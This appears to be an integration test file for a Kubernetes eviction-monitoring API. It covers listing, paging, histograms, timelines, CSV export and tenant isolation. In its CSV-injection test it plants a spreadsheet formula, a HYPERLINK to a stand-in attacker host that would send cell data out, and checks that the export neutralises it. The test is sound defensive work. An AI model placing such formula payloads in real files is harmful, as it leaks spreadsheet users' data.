import { parseEvictionMessage } from '@plimsoll/shared';
import {
  EVICTION_CSV_COLUMNS,
  EvictionDetailResponseSchema,
  EvictionEpisodesResponseSchema,
  EvictionHistogramResponseSchema,
  EvictionTimelineResponseSchema,
  ListEvictionsResponseSchema,
  type Eviction,
} from '@plimsoll/shared/schemas';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { formatOffenders, neutraliseCsvCell } from '../../src/services/export-evictions.js';
import { buildClusterTestApp, errorBody, signIn } from '../helper.js';

type ClusterApp = Awaited<ReturnType<typeof buildClusterTestApp>>;
interface TruthEviction {
  seq: number;
  at: string;
  kind: string;
  details: {
    node: string;
    namespace: string;
    pod: string;
    uid: string;
    signal: string;
    resource: string;
    qosClass: string;
    priority: number;
    message: string;
  };
}

const BASE = '/api/v1/clusters/sim/evictions';

async function truthEvictions(t: ClusterApp): Promise<TruthEviction[]> {
  const res = await fetch(`${t.manager.simulatorUrl}/sim/v1/truth`);
  const body = (await res.json()) as { items: TruthEviction[] };
  return body.items.filter((e) => e.kind === 'eviction');
}

async function waitFor<T>(
  what: string,
  fn: () => Promise<T | undefined | false>,
  timeoutMs = 45_000,
): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

/** Every eviction the API lists for `query`, following cursors. */
async function listAll(
  t: ClusterApp,
  headers: Record<string, string>,
  query: Record<string, string>,
  limit = 1000,
) {
  const items: Eviction[] = [];
  let cursor: string | null = null;
  let total: number | null = null;
  for (let page = 0; page < 1000; page++) {
    const qs = new URLSearchParams({
      ...query,
      limit: String(limit),
      ...(cursor ? { cursor } : {}),
    });
    const res = await t.app.inject({ url: `${BASE}?${qs}`, headers });
    expect(res.statusCode, res.body).toBe(200);
    const body = ListEvictionsResponseSchema.parse(res.json());
    if (page === 0) total = body.total;
    else expect(body.total).toBeNull();
    items.push(...body.items);
    cursor = body.nextCursor;
    if (!cursor) break;
  }
  return { items, total };
}

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

function asCsvRow(e: Eviction): string[] {
  return EVICTION_CSV_COLUMNS.map((c) => {
    const v = c === 'offenders' ? formatOffenders(e) : e[c];
    return neutraliseCsvCell(v === null || v === undefined ? '' : String(v));
  });
}

/**
 * Runs a scenario until it has evicted at least `min` pods and Plimsoll has stored every one of them; returns the
 * truth so far and a range that closes before the next eviction can land in it.
 */
async function settle(t: ClusterApp, sre: Record<string, string>, min: number) {
  await waitFor(
    `${min} evictions in the truth`,
    async () => (await truthEvictions(t)).length >= min,
  );
  // The storm comes in waves: wait until no new eviction arrived for 5 s (10 simulated minutes at 120x).
  let truth = await truthEvictions(t);
  for (let stable = Date.now(); Date.now() - stable < 5_000;) {
    await new Promise((r) => setTimeout(r, 500));
    const next = await truthEvictions(t);
    if (next.length !== truth.length) stable = Date.now();
    truth = next;
  }
  const first = truth[0] as TruthEviction;
  const last = truth[truth.length - 1] as TruthEviction;
  // evictedAt is the DisruptionTarget time, which Kubernetes keeps to the second.
  const from = new Date(Math.floor(Date.parse(first.at) / 1000) * 1000 - 3600_000).toISOString();
  const to = new Date(Math.floor(Date.parse(last.at) / 1000) * 1000).toISOString();
  const inRange = truth.filter((e) => Math.floor(Date.parse(e.at) / 1000) * 1000 < Date.parse(to));
  await waitFor('the collector to store them', async () => {
    const { items } = await listAll(t, sre, { from, to });
    const uids = new Set(items.map((i) => i.podUid));
    return inRange.every((e) => uids.has(e.details.uid));
  });
  return { truth: inRange, from, to };
}

function expectMatchesTruth(items: Eviction[], truth: TruthEviction[]) {
  const byUid = new Map<string, Eviction[]>();
  for (const i of items) byUid.set(i.podUid, [...(byUid.get(i.podUid) ?? []), i]);
  expect(items.length).toBe(truth.length);
  for (const e of truth) {
    const rows = byUid.get(e.details.uid) ?? [];
    expect(rows, `eviction of ${e.details.pod}`).toHaveLength(1);
    const row = rows[0] as Eviction;
    const parsed = parseEvictionMessage(e.details.message);
    expect(row).toMatchObject({
      cluster: 'sim',
      namespace: e.details.namespace,
      pod: e.details.pod,
      node: e.details.node,
      qosClass: e.details.qosClass,
      priority: e.details.priority,
      resource: e.details.resource,
      message: e.details.message,
      threshold: parsed?.threshold ?? null,
      available: parsed?.available ?? null,
      offenders: parsed?.offenders ?? [],
      evictedAt: new Date(Math.floor(Date.parse(e.at) / 1000) * 1000).toISOString(),
    });
  }
}

describe.each([
  { scenario: 'memory-storm', resource: 'memory', min: 3 },
  { scenario: 'disk-fill', resource: 'ephemeral-storage', min: 1 },
])('evictions API against $scenario', ({ scenario, resource, min }) => {
  let t: ClusterApp;
  let sre: Record<string, string>;
  let settled: Awaited<ReturnType<typeof settle>>;
  beforeAll(async () => {
    t = await buildClusterTestApp({ PLIMSOLL_SIM_SCENARIO: scenario, PLIMSOLL_SIM_SPEED: '120' });
    sre = (await signIn(t.app, 'sre')).headers;
    settled = await settle(t, sre, min);
  }, 90_000);
  afterAll(() => t?.close());

  it('lists every eviction in the truth exactly once, with the parsed fields right', async () => {
    const { items, total } = await listAll(t, sre, { from: settled.from, to: settled.to });
    expect(total).toBe(items.length);
    expectMatchesTruth(items, settled.truth);
    expect(items.every((i) => i.resource === resource)).toBe(true);
    // Newest first, strictly ordered on (evictedAt, id).
    for (let i = 1; i < items.length; i++) {
      const a = items[i - 1] as Eviction;
      const b = items[i] as Eviction;
      expect(
        a.evictedAt > b.evictedAt || (a.evictedAt === b.evictedAt && BigInt(a.id) > BigInt(b.id)),
      ).toBe(true);
    }
  });

  it('pages with the keyset cursor to the same rows as one big page', async () => {
    const big = await listAll(t, sre, { from: settled.from, to: settled.to });
    const small = await listAll(t, sre, { from: settled.from, to: settled.to }, 2);
    expect(small.items.map((i) => i.id)).toEqual(big.items.map((i) => i.id));
  });

  it('has histogram totals equal to list totals, overall and per group', async () => {
    const { items } = await listAll(t, sre, { from: settled.from, to: settled.to });
    for (const groupBy of ['node', 'namespace', 'owner', 'qos', 'resource', 'tenant'] as const) {
      const res = await t.app.inject({
        url: `${BASE}/histogram?${new URLSearchParams({ from: settled.from, to: settled.to, groupBy, bucket: '60' })}`,
        headers: sre,
      });
      expect(res.statusCode, res.body).toBe(200);
      const h = EvictionHistogramResponseSchema.parse(res.json());
      expect(h.total).toBe(items.length);
      expect(h.buckets.reduce((s, b) => s + b.total, 0)).toBe(items.length);
      expect(h.groups.reduce((s, g) => s + g.total, 0)).toBe(items.length);
      for (const b of h.buckets)
        expect(Object.values(b.counts).reduce((s, n) => s + n, 0)).toBe(b.total);
    }
    const node = items[0]?.node as string;
    const filtered = await listAll(t, sre, { from: settled.from, to: settled.to, node });
    const h = await t.app.inject({
      url: `${BASE}/histogram?${new URLSearchParams({ from: settled.from, to: settled.to, node })}`,
      headers: sre,
    });
    expect(EvictionHistogramResponseSchema.parse(h.json()).total).toBe(filtered.items.length);
    expect(filtered.items.every((i) => i.node?.includes(node))).toBe(true);
    expect(filtered.items.filter((i) => i.node === node).length).toBe(
      items.filter((i) => i.node === node).length,
    );
  });

  it('exports CSV (Accept or format) that parses back to the same rows, and JSON downloads', async () => {
    const { items } = await listAll(t, sre, { from: settled.from, to: settled.to });
    const qs = new URLSearchParams({ from: settled.from, to: settled.to });
    const byAccept = await t.app.inject({
      url: `${BASE}?${qs}`,
      headers: { ...sre, accept: 'text/csv' },
    });
    expect(byAccept.statusCode).toBe(200);
    expect(byAccept.headers['content-type']).toMatch(/^text\/csv/);
    expect(byAccept.headers['content-disposition']).toMatch(
      /attachment; filename="evictions-sim-.*\.csv"/,
    );
    expect(byAccept.headers['x-plimsoll-truncated']).toBe('false');
    const rows = parseCsv(byAccept.body);
    expect(rows[0]).toEqual([...EVICTION_CSV_COLUMNS]);
    expect(rows.slice(1)).toEqual(items.map(asCsvRow));
    const byFormat = await t.app.inject({ url: `${BASE}?${qs}&format=csv`, headers: sre });
    expect(byFormat.body).toBe(byAccept.body);
    const json = await t.app.inject({ url: `${BASE}?${qs}&format=json`, headers: sre });
    expect(json.headers['content-disposition']).toMatch(/\.json"/);
    expect(json.json()).toEqual(items);
  });

  it('draws one timeline mark per eviction and groups them into episodes', async () => {
    const { items } = await listAll(t, sre, { from: settled.from, to: settled.to });
    const res = await t.app.inject({
      url: `${BASE}/timeline?${new URLSearchParams({ from: settled.from, to: settled.to, groupBy: 'node' })}`,
      headers: sre,
    });
    const tl = EvictionTimelineResponseSchema.parse(res.json());
    expect(tl.truncated).toBe(false);
    expect([...tl.marks.id].sort()).toEqual(items.map((i) => i.id).sort());
    for (let i = 0; i < tl.marks.id.length; i++) {
      const e = items.find((x) => x.id === tl.marks.id[i]) as Eviction;
      expect(tl.groups[tl.marks.g[i] as number]).toBe(e.node);
      expect(tl.marks.t[i]).toBe(Date.parse(e.evictedAt));
    }
    const ep = await t.app.inject({
      url: `${BASE}/episodes?${new URLSearchParams({ from: settled.from, to: settled.to })}`,
      headers: sre,
    });
    const episodes = EvictionEpisodesResponseSchema.parse(ep.json());
    expect(episodes.gapSeconds).toBe(300);
    const ids = episodes.items.flatMap((x) => x.evictions.map((e) => e.id));
    expect(ids.sort()).toEqual(items.map((i) => i.id).sort());
    for (const x of episodes.items) {
      expect(x.count).toBe(x.evictions.length);
      expect(new Set(x.evictions.map((e) => items.find((i) => i.id === e.id)?.node))).toEqual(
        new Set([x.node]),
      );
      for (let k = 1; k < x.evictions.length; k++) {
        const gap =
          Date.parse((x.evictions[k] as { evictedAt: string }).evictedAt) -
          Date.parse((x.evictions[k - 1] as { evictedAt: string }).evictedAt);
        expect(gap).toBeGreaterThanOrEqual(0);
        expect(gap).toBeLessThanOrEqual(300_000);
      }
    }
  });

  it("explains an eviction: pressure, conditions, its episode in order, and the kubelet's ranking", async () => {
    const { items } = await listAll(t, sre, { from: settled.from, to: settled.to });
    const target = items[items.length - 1] as Eviction;
    const res = await t.app.inject({ url: `${BASE}/${target.id}`, headers: sre });
    expect(res.statusCode, res.body).toBe(200);
    const d = EvictionDetailResponseSchema.parse(res.json());
    expect(d.eviction).toEqual(target);
    expect(d.episode.evictions.some((e) => e.id === target.id)).toBe(true);
    expect(d.episode.hidden).toBe(0);
    expect(d.order.actual).toEqual(d.episode.evictions.map((e) => e.id));
    expect(d.order.signal).toBe(resource === 'memory' ? 'memory.available' : 'nodefs.available');
    // The simulator's answer: the order its kubelet evicted in (the truth's sequence). Every episode lists exactly
    // that order, and the ranking check agrees exactly when the kubelet's ranking of what Plimsoll recorded gives it.
    const seqOf = new Map(settled.truth.map((e) => [e.details.uid, e.seq]));
    const uidOf = new Map(items.map((i) => [i.id, i.podUid]));
    const bySeq = (a: string, b: string) =>
      (seqOf.get(uidOf.get(a) ?? '') ?? 0) - (seqOf.get(uidOf.get(b) ?? '') ?? 0);
    for (const item of items) {
      const o =
        item === target
          ? d
          : EvictionDetailResponseSchema.parse(
              (await t.app.inject({ url: `${BASE}/${item.id}`, headers: sre })).json(),
            );
      const truthOrder = [...o.order.actual].sort(bySeq);
      expect(o.order.actual.every((id) => seqOf.has(uidOf.get(id) ?? ''))).toBe(true);
      expect(o.order.actual).toEqual(truthOrder);
      expect(o.order.matches).toBe(JSON.stringify(o.order.expected) === JSON.stringify(truthOrder));
      if (o.order.actual.length === 1) expect(o.order.matches).toBe(true);
    }
    expect(d.order.explanation.length).toBeGreaterThan(10);
    expect(d.pressure.series).toBe(resource === 'memory' ? 'memory' : 'nodefs');
    expect(d.pressure.threshold).toBeGreaterThan(0);
    // The kubelet sets the pressure condition before it evicts.
    const condition = resource === 'memory' ? 'MemoryPressure' : 'DiskPressure';
    const at = d.conditions.find((c) => c.type === condition);
    if (at) expect(at.status).toBe('True');
    expect(Array.isArray(d.taints) || d.taints === null).toBe(true);

    const missing = await t.app.inject({ url: `${BASE}/999999999`, headers: sre });
    expect(missing.statusCode).toBe(404);
    expect(errorBody(missing).code).toBe('NOT_FOUND');
  });
});

describe('evictions API: roles and tenant scoping', () => {
  let t: ClusterApp;
  const from = '2020-01-01T00:00:00.000Z';
  const to = '2020-01-02T00:00:00.000Z';
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    t = await buildClusterTestApp({
      PLIMSOLL_SIM_SCENARIO: 'memory-storm',
      PLIMSOLL_SIM_SPEED: '1',
    });
    // Namespaces the simulated cluster does not have, so the collector never rewrites their tenancy.
    await t.db.prisma.tenantNamespace.createMany({
      data: [
        { cluster: 'sim', namespace: 'acme-web', tenant: 'acme', observedAt: new Date(from) },
        { cluster: 'sim', namespace: 'globex-web', tenant: 'globex', observedAt: new Date(from) },
      ],
    });
    const row = (ns: string, pod: string, minute: number, tenant: string | null) => ({
      cluster: 'sim',
      namespace: ns,
      pod,
      podUid: `${ns}-${pod}`,
      node: 'node-a',
      tenant,
      ownerKind: 'Deployment',
      ownerName: pod.replace(/-\d+$/, ''),
      qosClass: 'Burstable',
      priority: 0,
      resource: 'memory',
      threshold: '100Mi',
      available: '80Mi',
      offenders: [{ kind: 'container', name: 'app', usage: `${300 - minute}Mi`, request: '100Mi' }],
      message: `The node was low on resource: memory. Threshold quantity: 100Mi, available: 80Mi. Container app was using ${300 - minute}Mi, request is 100Mi, has larger consumption of memory. `,
      evictedAt: new Date(Date.parse(from) + minute * 60_000),
      observedAt: new Date(Date.parse(from) + minute * 60_000),
    });
    await t.db.prisma.eviction.createMany({
      data: [
        row('acme-web', 'api-1', 10, 'acme'),
        row('globex-web', 'shop-1', 11, 'globex'),
        row('acme-web', 'api-2', 12, 'acme'),
        row('other', 'x-1', 13, null),
      ],
    });
    const all = await t.db.prisma.eviction.findMany({
      where: { cluster: 'sim', evictedAt: { lt: new Date(to) } },
    });
    for (const r of all) ids[r.pod] = r.id.toString();
  }, 90_000);
  afterAll(() => t?.close());

  it('refuses callers without a session and names unknown clusters', async () => {
    for (const path of ['', '/histogram', '/timeline', '/episodes', '/1']) {
      const res = await t.app.inject({ url: `${BASE}${path}` });
      expect(res.statusCode, path).toBe(401);
    }
    const { headers } = await signIn(t.app, 'sre');
    const res = await t.app.inject({ url: '/api/v1/clusters/nope/evictions', headers });
    expect(res.statusCode).toBe(404);
    expect(errorBody(res).message).toMatch(/sim/);
  });

  it('validates ranges, cursors and ids', async () => {
    const { headers } = await signIn(t.app, 'viewer');
    expect((await t.app.inject({ url: `${BASE}?from=${to}&to=${from}`, headers })).statusCode).toBe(
      400,
    );
    expect((await t.app.inject({ url: `${BASE}?cursor=bogus`, headers })).statusCode).toBe(400);
    expect((await t.app.inject({ url: `${BASE}/abc`, headers })).statusCode).toBe(400);
    expect(
      (
        await t.app.inject({
          url: `${BASE}/histogram?from=${from}&to=2020-01-03T00:00:00Z&bucket=60`,
          headers,
        })
      ).statusCode,
    ).toBe(400);
  });

  it('filters by part of a node name, case-insensitively', async () => {
    const { headers } = await signIn(t.app, 'viewer');
    for (const [node, count] of [
      ['node-a', 4],
      ['NODE-', 4],
      ['e-a', 4],
      ['node-b', 0],
      ['node-b,de-a', 4],
    ] as const) {
      const { items } = await listAll(t, headers, { from, to, node });
      expect(items.length, node).toBe(count);
    }
  });

  it('shows SREs and viewers every namespace', async () => {
    for (const user of ['sre', 'viewer']) {
      const { headers } = await signIn(t.app, user);
      const { items } = await listAll(t, headers, { from, to });
      expect(items.map((i) => i.pod).sort(), user).toEqual(['api-1', 'api-2', 'shop-1', 'x-1']);
    }
  });

  it("shows a tenant admin only their tenants' namespaces, everywhere", async () => {
    const { headers } = await signIn(t.app, 'acme-admin');
    const q = new URLSearchParams({ from, to });
    const { items, total } = await listAll(t, headers, { from, to });
    expect(items.map((i) => i.pod)).toEqual(['api-2', 'api-1']);
    expect(total).toBe(2);
    // Asking for another tenant by filter gives nothing rather than their rows.
    expect((await listAll(t, headers, { from, to, tenant: 'globex' })).items).toEqual([]);
    const h = EvictionHistogramResponseSchema.parse(
      (await t.app.inject({ url: `${BASE}/histogram?${q}&groupBy=namespace`, headers })).json(),
    );
    expect(h.total).toBe(2);
    expect(h.groups).toEqual([{ key: 'acme-web', total: 2 }]);
    const tl = EvictionTimelineResponseSchema.parse(
      (await t.app.inject({ url: `${BASE}/timeline?${q}`, headers })).json(),
    );
    expect(tl.marks.id.sort()).toEqual([ids['api-1'], ids['api-2']].sort());
    const ep = EvictionEpisodesResponseSchema.parse(
      (await t.app.inject({ url: `${BASE}/episodes?${q}`, headers })).json(),
    );
    expect(ep.items.flatMap((x) => x.evictions.map((e) => e.pod)).sort()).toEqual([
      'api-1',
      'api-2',
    ]);
    const csv = await t.app.inject({ url: `${BASE}?${q}&format=csv`, headers });
    expect(
      parseCsv(csv.body)
        .slice(1)
        .map((r) => r[4]),
    ).toEqual(['api-2', 'api-1']);
  });

  it("answers 404 for another tenant's eviction by id, like a missing one, and hides its pods in episodes", async () => {
    const { headers } = await signIn(t.app, 'acme-admin');
    const other = await t.app.inject({ url: `${BASE}/${ids['shop-1']}`, headers });
    expect(other.statusCode).toBe(404);
    expect(errorBody(other).message).toBe(`No eviction ${ids['shop-1']} in cluster sim.`);
    const untenanted = await t.app.inject({ url: `${BASE}/${ids['x-1']}`, headers });
    expect(untenanted.statusCode).toBe(404);
    const own = await t.app.inject({ url: `${BASE}/${ids['api-2']}`, headers });
    expect(own.statusCode, own.body).toBe(200);
    const d = EvictionDetailResponseSchema.parse(own.json());
    expect(d.episode.evictions.map((e) => e.pod)).toEqual(['api-1', 'api-2']);
    // The figures are those of the evictions the tenant admin may see: not shop-1's or x-1's usage or time.
    expect(d.episode.count).toBe(2);
    expect(d.episode.hidden).toBe(2);
    expect(d.episode.start).toBe(new Date(Date.parse(from) + 10 * 60_000).toISOString());
    expect(d.episode.end).toBe(new Date(Date.parse(from) + 12 * 60_000).toISOString());
    expect(d.episode.reclaimed).toBe(`${290 + 288}Mi`);
    expect(JSON.stringify(d)).not.toContain('shop-1');
    // The SRE sees the whole episode, and its order is the kubelet's: larger excess over the request first.
    const sre = (await signIn(t.app, 'sre')).headers;
    const full = EvictionDetailResponseSchema.parse(
      (await t.app.inject({ url: `${BASE}/${ids['api-2']}`, headers: sre })).json(),
    );
    expect(full.episode.evictions.map((e) => e.pod)).toEqual(['api-1', 'shop-1', 'api-2', 'x-1']);
    expect(full.order.matches).toBe(true);
    expect(full.episode.reclaimed).toBe(`${290 + 289 + 288 + 287}Mi`);
    expect(full.episode.count).toBe(4);
    expect(full.episode.end).toBe(new Date(Date.parse(from) + 13 * 60_000).toISOString());
  });

  it('neutralises spreadsheet formulas in CSV cells (OWASP): = + - @ tab and CR get a leading quote', async () => {
    const at = new Date(Date.parse(from) + 20 * 60_000);
    await t.db.prisma.eviction.create({
      data: {
        cluster: 'sim',
        namespace: 'acme-web',
        pod: 'planted',
        podUid: 'planted',
        node: 'node-a',
        tenant: '@acme',
        ownerKind: '+Kind',
        ownerName: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        qosClass: '\tBurstable',
        resource: '\rmemory',
        threshold: '-1+1',
        offenders: [],
        message: '=1+1',
        evictedAt: at,
        observedAt: at,
      },
    });
    const { headers } = await signIn(t.app, 'sre');
    const q = new URLSearchParams({ from, to, namespace: 'acme-web' });
    const csv = await t.app.inject({ url: `${BASE}?${q}&format=csv`, headers });
    expect(csv.statusCode).toBe(200);
    const rows = parseCsv(csv.body);
    const header = rows[0] as string[];
    const planted = rows.find((r) => r[header.indexOf('pod')] === 'planted') as string[];
    const cell = (c: string) => planted[header.indexOf(c)];
    expect(cell('ownerName')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"open")');
    expect(cell('ownerKind')).toBe("'+Kind");
    expect(cell('tenant')).toBe("'@acme");
    expect(cell('threshold')).toBe("'-1+1");
    expect(cell('qosClass')).toBe("'\tBurstable");
    expect(cell('resource')).toBe("'\rmemory");
    // No cell of the export starts with a formula character.
    for (const r of rows) for (const c of r) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    await t.db.prisma.eviction.deleteMany({ where: { podUid: 'planted' } });
  });

  it('flags an order the kubelet would not have chosen and says stale stats are the usual cause', async () => {
    await t.db.prisma.eviction.create({
      data: {
        cluster: 'sim',
        namespace: 'acme-web',
        pod: 'late-hog',
        podUid: 'late-hog',
        node: 'node-b',
        resource: 'memory',
        priority: 0,
        offenders: [{ kind: 'container', name: 'app', usage: '2Gi', request: '100Mi' }],
        message: 'The node was low on resource: memory. ',
        evictedAt: new Date(Date.parse(from) + 3 * 60_000),
        observedAt: new Date(from),
      },
    });
    await t.db.prisma.eviction.create({
      data: {
        cluster: 'sim',
        namespace: 'acme-web',
        pod: 'early-quiet',
        podUid: 'early-quiet',
        node: 'node-b',
        resource: 'memory',
        priority: 0,
        offenders: [],
        message: 'The node was low on resource: memory. ',
        evictedAt: new Date(Date.parse(from) + 2 * 60_000),
        observedAt: new Date(from),
      },
    });
    const { headers } = await signIn(t.app, 'sre');
    const row = await t.db.prisma.eviction.findFirstOrThrow({ where: { podUid: 'late-hog' } });
    const d = EvictionDetailResponseSchema.parse(
      (await t.app.inject({ url: `${BASE}/${row.id}`, headers })).json(),
    );
    expect(d.order.matches).toBe(false);
    expect(d.order.firstMismatch).toBe(0);
    expect(d.order.explanation).toMatch(/stale stats/);
  });
});
